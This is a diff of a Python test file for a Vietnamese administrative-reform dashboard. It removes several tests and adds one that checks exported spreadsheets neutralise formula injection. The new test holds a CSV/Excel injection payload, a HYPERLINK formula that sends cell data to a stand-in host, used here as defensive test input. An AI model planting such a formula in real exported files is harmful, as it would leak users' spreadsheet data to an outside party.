@@ -4,27 +4,21 @@ the dashboard's own filtering code."""
 
 from __future__ import annotations
 
-import dataclasses
 import html
-import json
 import re
 
-import numpy as np
 import pandas as pd
 import pytest
+from openpyxl import load_workbook
 
+from cchc_lib import load_plan
 from cchc_lib.assessment.engine import assess
-from cchc_lib.explore.dashboard import (
-    NOTEBOOK,
-    Dashboard,
-    _write_template,
-    export_selection,
-    fold,
-    make_notebook,
-    selection,
-    what_if,
-)
+from cchc_lib.explore.dashboard import Dashboard
+from cchc_lib.explore.filters import selection
+from cchc_lib.explore.whatif import what_if
 from cchc_lib.i18n import fmt, vocab
+
+from .conftest import edit_cell
 
 PERIOD = "2024-Q2"
 
@@ -73,19 +67,6 @@ def d(board):
 @pytest.fixture(scope="module")
 def a(plan, sample_progress):
     return assess(plan, sample_progress, PERIOD, "nd09")
-
-
-# --- text folding ----------------------------------------------------------------------------
-
-
-def test_fold_drops_case_and_diacritics_including_d_with_stroke():
-    assert fold("Hồ sơ  ĐẤT đai") == "ho so dat dai"
-    assert fold("Huế-S") == "hue-s"
-    assert fold(None) == "" and fold(pd.NA) == ""
-    # decomposed input (pasted from a PDF) folds the same as composed input
-    import unicodedata
-
-    assert fold(unicodedata.normalize("NFD", "Chuyển đổi số")) == fold("Chuyển đổi số") == "chuyen doi so"
 
 
 # --- filters -----------------------------------------------------------------------------------
@@ -271,88 +252,6 @@ def test_detail_options_follow_the_filters(d, a):
     assert [v for _, v in d.task_pick.options] == a.tasks.loc[a.tasks["area_id"] == "II.5", "task_id"].tolist()
 
 
-# --- what if -------------------------------------------------------------------------------------
-
-
-def _measured(a):
-    t = a.targets
-    return t.loc[t["measurable"] & t["actual"].notna() & t["kpi"].fillna("").ne("rating"), "target_id"].tolist()
-
-
-@pytest.mark.parametrize("period", ["2024-Q2", "2024-H1", "2024-Q4"])
-def test_what_if_with_the_current_value_changes_nothing(plan, sample_progress, period):
-    a = assess(plan, sample_progress, period, "nd09")
-    for tid in _measured(a):
-        res = what_if(a, tid, a.targets.set_index("target_id").at[tid, "actual"])
-        assert res["status_after"] == res["status_before"], tid
-        assert res["score_after"] == a.overall["score"], tid
-        assert res["rating_after"] == a.overall["rating"], tid
-        for area, (before, after) in res["areas"].items():
-            assert after == before, (tid, area)
-        assert res["unit_score_after"] == res["unit_score_before"] or np.isnan(res["unit_score_before"])
-        assert res["targets_after"]["status"].tolist() == a.targets["status"].tolist(), tid
-        pd.testing.assert_frame_equal(res["areas_after"], a.areas)
-
-
-def test_online_share_at_50_meets_t207_and_raises_ii2(a):
-    res = what_if(a, "T2.07", 50)
-    assert res["status_before"] != "met" and res["status_after"] == "met"
-    assert res["area_id"] == "II.2" and res["area_score_after"] > res["area_score_before"]
-    assert res["score_after"] >= res["score_before"]
-    # the dossier log gives one online share: the conflicting II.6 target moves with it
-    assert res["changed"] == ["T2.07", "T6.22"]
-    assert res["targets_after"].set_index("target_id").at["T6.22", "actual"] == 50
-    assert what_if(a, "T2.07", 50, linked=False)["changed"] == ["T2.07"]
-
-
-def _with_entered(progress, target_id, period, value):
-    ind = progress.indicators
-    keep = ind[~((ind["target_id"] == target_id) & (ind["period"] == period))]
-    row = pd.DataFrame({"source_row": [9999], "target_id": [target_id], "period": [period], "value": [float(value)]})
-    return dataclasses.replace(progress, indicators=pd.concat([keep, row], ignore_index=True))
-
-
-@pytest.mark.parametrize(
-    "target_id, period, value",
-    [
-        ("T6.13", "2024-Q2", 70.0),  # level target pushed above its 50% target: met
-        ("T6.13", "2024-Q2", 47.0),  # below target: judged on the pace line through the new point
-        ("T6.13", "2024-Q2", 20.0),  # far below: at risk, area score falls
-        ("T1.01", "2024-Q3", 99.0),
-        ("T3.03", "2024-Q2", 60.0),  # annual survey target, not due without data
-        ("T6.10", "2024-H1", 95.0),  # half-year: a row for the half itself
-        ("T6.10", "2024", 70.0),  # the year: final, no projection
-    ],
-)
-def test_what_if_agrees_with_assess_on_modified_data(plan, sample_progress, target_id, period, value):
-    a = assess(plan, sample_progress, period, "nd09")
-    res = what_if(a, target_id, value)
-    b = assess(plan, _with_entered(sample_progress, target_id, period, value), period, "nd09")
-    rb = b.targets.set_index("target_id").loc[target_id]
-    assert res["status_after"] == rb["status"]
-    after = res["targets_after"].set_index("target_id")
-    assert after["status"].tolist() == b.targets["status"].tolist()
-    got, want = after.at[target_id, "projected"], rb["projected"]
-    assert (pd.isna(got) and pd.isna(want)) or float(got) == pytest.approx(float(want), rel=1e-12)
-    area = res["area_id"]
-    assert res["area_score_after"] == pytest.approx(b.areas.set_index("area_id").at[area, "score"], abs=1e-9)
-    assert res["unit_score_after"] == pytest.approx(b.units.set_index("unit_id").at[res["unit_id"], "score"], abs=1e-9)
-    assert res["score_after"] == pytest.approx(b.overall["score"], abs=1e-9)
-    assert (res["rating_after"], res["rating_level_after"]) == (b.overall["rating"], b.overall["rating_level"])
-    assert res["overall_after"]["coverage"] == pytest.approx(b.overall["coverage"])
-
-
-def test_what_if_refuses_what_cannot_be_assumed(a):
-    with pytest.raises(ValueError, match="định tính"):
-        what_if(a, "T1.03", 50)
-    with pytest.raises(ValueError, match="xếp loại"):
-        what_if(a, "T7.03", 4)
-    with pytest.raises(KeyError):
-        what_if(a, "T9.99", 1)
-    with pytest.raises(ValueError):
-        what_if(a, "T2.07", float("nan"))
-
-
 def test_what_if_panel(d, a):
     d.tabs.selected_index = d.TAB_WHATIF
     d.area.value = "II.2"
@@ -395,44 +294,25 @@ def test_export_writes_the_filtered_tables(d, tmp_path):
     )
 
 
-def test_export_selection_pure(a, tmp_path):
-    t, k = selection(a, area="II.1")
-    (path,) = export_selection(t, k, tmp_path, "xlsx", stem="x")
-    book = pd.read_excel(path, sheet_name=None, dtype=str, keep_default_na=False)
-    assert list(book) == ["Chỉ tiêu", "Nhiệm vụ"]
-    assert book["Chỉ tiêu"]["Mã"].tolist() == a.targets.loc[a.targets["area_id"] == "II.1", "target_id"].tolist()
-    with pytest.raises(ValueError):
-        export_selection(t, k, tmp_path, "pdf")
-
-
-# --- notebook and serving pieces -----------------------------------------------------------------
-
-
-def test_notebook_is_thin_clean_and_in_step_with_make_notebook():
-    nb = json.loads(NOTEBOOK.read_text(encoding="utf-8"))
-    code = [c for c in nb["cells"] if c["cell_type"] == "code"]
-    assert len(code) == 2
-    assert "parameters" in code[0]["metadata"]["tags"]
-    for c in code:
-        assert c["outputs"] == [] and c["execution_count"] is None
-    src0 = "".join(code[0]["source"])
-    for name in ("plan", "data", "period", "cutoff", "lang"):
-        assert re.search(rf"^{name} = ", src0, re.M), name
-    assert "Dashboard.from_params(" in "".join(code[1]["source"])
-    assert ["".join(c["source"]) for c in code] == [c.source for c in make_notebook().cells]
-
-
-def test_offline_template_links_nothing_outside(tmp_path):
-    root = _write_template(tmp_path)
-    index = (root / "voila" / "templates" / "cchc-offline" / "index.html.j2").read_text(encoding="utf-8")
-    assert "http" not in index and "extends 'voila/templates/lab/index.html.j2'" in index
-    assert json.loads((root / "voila" / "templates" / "cchc-offline" / "conf.json").read_text()) == {
-        "base_template": "lab"
-    }
-
-
 def test_from_params_builds_from_ids(plan, sample_progress, tmp_path):
     board = Dashboard.from_params(plan, sample_progress, "2024-Q3", "calendar", "en", out_dir=tmp_path, prefetch=False)
     assert board.a.period.code == "2024-Q3" and board.a.cutoff == "calendar"
     assert board.tabs.titles[0] == f"Targets ({len(board.a.targets)})"
     assert "SAMPLE DATA" in board.header.value
+
+
+def test_page_export_writes_task_text_starting_with_equals_as_text(plan_copy, sample_progress, tmp_path):
+    """A plan sentence (or a unit's evidence) that starts with "=" never becomes a live formula."""
+    evil = '=HYPERLINK("http://x.example/?d="&A1,"Xem")'
+    edit_cell(plan_copy / "tasks.csv", 0, "text", evil)
+    p = load_plan(plan_copy)
+    board = Dashboard(p, sample_progress, PERIOD, "nd09", "vi", out_dir=tmp_path)
+    task_id = p.tasks["task_id"].iloc[0]
+    board.set_filters(search=task_id)
+    (xlsx,) = board.export("xlsx")
+    ws = load_workbook(xlsx)["Nhiệm vụ"]
+    cell = next(c for row in ws.iter_rows(min_row=2) for c in row if c.value == evil)
+    assert cell.data_type == "s" and cell.quotePrefix  # Excel's own "typed with a leading '"
+    csv_t, csv_k = board.export("csv")
+    cells = pd.read_csv(csv_k, dtype=str, keep_default_na=False, encoding="utf-8-sig").to_numpy().ravel().tolist()
+    assert f"'{evil}" in cells and evil not in cells  # OWASP: a leading ' makes the spreadsheet read text
